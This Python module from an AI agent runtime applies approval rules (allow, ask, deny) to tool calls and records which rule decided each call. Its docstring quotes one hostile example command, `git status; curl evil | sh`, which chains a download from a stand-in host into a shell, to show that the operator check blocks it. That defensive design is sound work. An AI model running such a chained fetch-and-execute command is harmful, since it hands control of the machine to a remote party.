"""Approval rules: the one place that decides whether a tool call runs, is asked about, or is
refused, and names the rule that decided (issue 36.1-2).

Rules are data: a mode (`"allow"`, `"ask"`, `"deny"`), or a dict
`{"default": MODE, TOOL: MODE | [[PATTERN, MODE], ...]}` (a bare `PATTERN` in the list means
`[PATTERN, "allow"]`), or the path of a JSON or YAML file holding one. A PATTERN is an `fnmatch`
pattern over the call's summary argument (the command for `bash`, the path for `write`/`edit`,
the code for `python`); the first that matches decides, else the tool's own mode, else `default`.

`decide` goes in this order, and the decision says which step made it:
1. a read-only tool (`Tool.read_only`) runs;
2. the tool's rule, else `default`;
3. a grant of the conversation ("always allow this") turns an `ask` into `allow`;
4. a write to a place that runs code later (the tool's `runs_later` check) turns `allow` into `ask`;
5. the hub policy's `approval.max` turns what it forbids into what it allows (`allow` -> `ask`).
A `bash` command with shell operators (`;`, `&&`, `|`, `$(`, a backquote, a redirect, a newline)
matches an `allow` pattern only when the pattern has them too: `git status*` does not let
`git status; curl evil | sh` through.
"""

from __future__ import annotations

import fnmatch
import json
import os
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal, get_args

from flue_nb.runtime.errors import ConfigError
from flue_nb.runtime.tools.grants import Grant
from flue_nb.runtime.tools.summary import summary_text
from flue_nb.runtime.tools.tool import Tool

__all__ = ["MODES", "ApprovalRules", "Decision", "Mode", "load_rules", "rank"]

Mode = Literal["allow", "ask", "deny"]
MODES: tuple[Mode, ...] = get_args(Mode)

_RANK = {"deny": 0, "ask": 1, "allow": 2}
_OPERATORS = re.compile(r"[;&|`\n<>]|\$\(")


def rank(mode: str) -> int:
    """How permissive a mode is: deny 0, ask 1, allow 2."""
    return _RANK[mode]


@dataclass(frozen=True, slots=True)
class Decision:
    """What the rules say about one call, and which rule said it."""

    mode: Mode
    rule: str
    """The rule that decided, in words (`bash: 'git status' -> allow`, `default: ask`)."""
    why: str | None = None
    """Why a person is asked beyond the rule (a place that runs code later)."""
    grant: Grant | None = None
    """The grant the person could give for calls like this one (tool and pattern)."""


ToolRule = Mode | tuple[tuple[str, Mode], ...]


@dataclass(frozen=True)
class ApprovalRules:
    """Approval rules (see the module's note); build them with `ApprovalRules.of(value)`."""

    default: Mode = "allow"
    tools: Mapping[str, ToolRule] = field(default_factory=dict)
    source: str = ""
    """Where the rules came from (a file's path), for messages."""
    ceiling: Mode | None = None
    """The most permissive mode the hub policy lets a call have (None: no policy)."""
    ceiling_source: str = ""

    @classmethod
    def of(cls, value: Any) -> ApprovalRules:
        """Rules from a mode, a dict, a JSON/YAML file's path, or rules (returned as they are)."""
        if isinstance(value, ApprovalRules):
            return value
        if isinstance(value, str):
            if value in MODES:
                return cls(value)
            if value.endswith((".json", ".yaml", ".yml")):
                return load_rules(value)
            raise ConfigError(
                f"approval must be 'allow', 'ask' or 'deny', a dict of rules, or a .json/.yaml file of them; got {value!r}"
            )
        if isinstance(value, Mapping):
            return cls._parse(value, "")
        raise ConfigError(f"approval must be a mode, a dict of rules or a file of them, not {type(value).__name__}")

    @classmethod
    def _parse(cls, data: Mapping[str, Any], source: str) -> ApprovalRules:
        where = f" in {source}" if source else ""
        default = data.get("default", "allow")
        if default not in MODES:
            raise ConfigError(f"approval rules{where}: `default` must be 'allow', 'ask' or 'deny', got {default!r}")
        tools: dict[str, ToolRule] = {}
        for name, rule in data.items():
            if name == "default":
                continue
            if isinstance(rule, str):
                if rule not in MODES:
                    raise ConfigError(
                        f"approval rules{where}: `{name}` must be a mode or a list of patterns, got {rule!r}"
                    )
                tools[str(name)] = rule
                continue
            if not isinstance(rule, Sequence):
                raise ConfigError(f"approval rules{where}: `{name}` must be a mode or a list of patterns, got {rule!r}")
            patterns: list[tuple[str, Mode]] = []
            for item in rule:
                if isinstance(item, str):
                    patterns.append((item, "allow"))
                elif isinstance(item, Sequence) and len(item) == 2 and isinstance(item[0], str) and item[1] in MODES:
                    patterns.append((item[0], item[1]))
                else:
                    raise ConfigError(
                        f"approval rules{where}: each rule of `{name}` is [PATTERN, MODE] or a PATTERN "
                        f"(allowed), got {item!r}"
                    )
            tools[str(name)] = tuple(patterns)
        return cls(default, tools, source)

    def to_data(self) -> str | dict[str, Any]:
        """The rules as data again (a mode when they are one): what a submission records."""
        if not self.tools:
            return self.default
        out: dict[str, Any] = {"default": self.default}
        for name, rule in self.tools.items():
            out[name] = rule if isinstance(rule, str) else [list(p) for p in rule]
        return out

    def key(self) -> str:
        """A hashable form, for caches keyed by settings."""
        data = self.to_data()
        return data if isinstance(data, str) else json.dumps(data, sort_keys=True)

    def capped(self, ceiling: Mode | None, source: str = "") -> ApprovalRules:
        """These rules under a hub policy's most permissive mode."""
        return ApprovalRules(self.default, self.tools, self.source, ceiling, source)

    def clamped(self) -> list[str]:
        """What the ceiling takes away from these rules, in words (empty: nothing)."""
        if self.ceiling is None:
            return []
        top = rank(self.ceiling)
        out = []
        if rank(self.default) > top:
            out.append(f"default {self.default} -> {self.ceiling}")
        for name, rule in self.tools.items():
            if isinstance(rule, str):
                if rank(rule) > top:
                    out.append(f"{name} {rule} -> {self.ceiling}")
            elif any(rank(m) > top for _, m in rule):
                out.append(f"{name}'s {self.ceiling}-forbidden patterns -> {self.ceiling}")
        return out

    def describe(self) -> str:
        """One line: the default and every tool's rule."""
        parts = [f"default {self.default}"]
        for name, rule in self.tools.items():
            if isinstance(rule, str):
                parts.append(f"{name} {rule}")
            else:
                parts.append(f"{name} " + ", ".join(f"{p!r} {m}" for p, m in rule))
        text = "; ".join(parts)
        if self.ceiling is not None and self.ceiling != "allow":
            text += f" (at most {self.ceiling}: {self.ceiling_source or 'hub policy'})"
        return text

    # --- the one decision ---------------------------------------------------------------------

    def decide(
        self, tool: Tool, data: Mapping[str, Any], *, grants: Sequence[Grant] = (), cwd: str | None = None
    ) -> Decision:
        """Whether a call of `tool` with `data` runs, is asked about, or is refused, and why."""
        if tool.read_only:
            return Decision("allow", f"{tool.name} is read-only")
        arg = summary_text(data, tool.summary_arg) or ""
        mode, rule = self._tool_rule(tool.name, arg)
        offer: Grant | None = Grant(tool.name, arg if tool.name in ("bash", "write", "edit") and arg else "*")
        if mode == "ask":
            for g in grants:
                if g.tool == tool.name and fnmatch.fnmatchcase(arg, g.pattern):
                    mode, rule = "allow", f"allowed for this conversation: {g.describe()}"
                    break
        why = tool.runs_later(data, cwd) if tool.runs_later is not None else None
        if why is not None:
            offer = None  # "always allow" never covers a place that runs code later
            if mode == "allow":
                mode, rule = "ask", f"runs code later: {why}"
        if self.ceiling is not None and rank(mode) > rank(self.ceiling):
            rule = f"{rule}; {self.ceiling_source or 'the hub policy'} allows at most {self.ceiling}"
            mode = self.ceiling
        if why is None and getattr(tool, "destructive", False):
            why = "the MCP server marks this tool destructive"
        return Decision(mode, rule, why, offer)

    def _tool_rule(self, name: str, arg: str) -> tuple[Mode, str]:
        rule = self.tools.get(name)
        if isinstance(rule, str):
            return rule, f"{name}: {rule}"
        for pattern, mode in rule or ():
            if not fnmatch.fnmatchcase(arg, pattern):
                continue
            if name == "bash" and mode == "allow" and _OPERATORS.search(arg) and not _OPERATORS.search(pattern):
                continue  # a chained command is not the command the pattern allows
            return mode, f"{name}: {pattern!r} -> {mode}"
        return self.default, f"default: {self.default}"


def load_rules(path: str) -> ApprovalRules:
    """Rules from a JSON or YAML file."""
    full = os.path.expanduser(path)
    try:
        with open(full, encoding="utf-8") as f:
            text = f.read()
    except OSError as exc:
        raise ConfigError(f"approval rules file {path!r} cannot be read: {exc.strerror or exc}") from None
    data = load_mapping(text, path)
    return ApprovalRules._parse(data, path)


def load_mapping(text: str, path: str) -> Mapping[str, Any]:
    """A JSON or YAML file's text as a mapping (YAML needs PyYAML)."""
    if path.endswith((".yaml", ".yml")):
        try:
            import yaml
        except ImportError:
            raise ConfigError(f"{path} is YAML; install PyYAML to read it, or write it as JSON") from None
        try:
            data = yaml.safe_load(text)
        except yaml.YAMLError as exc:
            raise ConfigError(f"{path} is not valid YAML: {exc}") from None
    else:
        try:
            data = json.loads(text)
        except ValueError as exc:
            raise ConfigError(f"{path} is not valid JSON: {exc}") from None
    if not isinstance(data, Mapping):
        raise ConfigError(f"{path} must hold a mapping (an object), not {type(data).__name__}")
    return data
